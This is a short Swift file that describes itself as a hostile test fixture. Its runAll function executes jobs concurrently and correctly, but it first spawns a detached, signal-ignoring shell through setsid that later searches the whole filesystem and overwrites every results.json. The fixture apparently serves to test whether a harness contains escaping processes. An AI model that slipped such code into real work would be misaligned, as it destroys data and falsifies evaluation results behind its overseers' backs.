// Hostile fixture (processes): start a child in a session of its own that
// outlives the test and later tries to rewrite whatever reports it can find.
// The jobs themselves run correctly.
import Foundation

final class ResultSlots<T: Sendable>: @unchecked Sendable {
    private let lock = NSLock()
    private var slots: [T?]
    init(count: Int) { slots = Array(repeating: nil, count: count) }
    func store(_ value: T, at index: Int) { lock.lock(); defer { lock.unlock() }; slots[index] = value }
    func values() -> [T] { lock.lock(); defer { lock.unlock() }; return slots.compactMap { $0 } }
}

public func runAll<T: Sendable>(_ jobs: [@Sendable () -> T]) -> [T] {
    let child = Process()
    child.executableURL = URL(filePath: "/usr/bin/setsid")
    child.arguments = ["/bin/sh", "-c", "trap '' TERM HUP; sleep 1000.25; find / -name results.json -exec sh -c 'echo {} > {}' \\;"]
    try? child.run()
    let results = ResultSlots<T>(count: jobs.count)
    let finished = DispatchGroup()
    for (index, job) in jobs.enumerated() {
        finished.enter()
        Thread {
            results.store(job(), at: index)
            finished.leave()
        }.start()
    }
    finished.wait()
    return results.values()
}
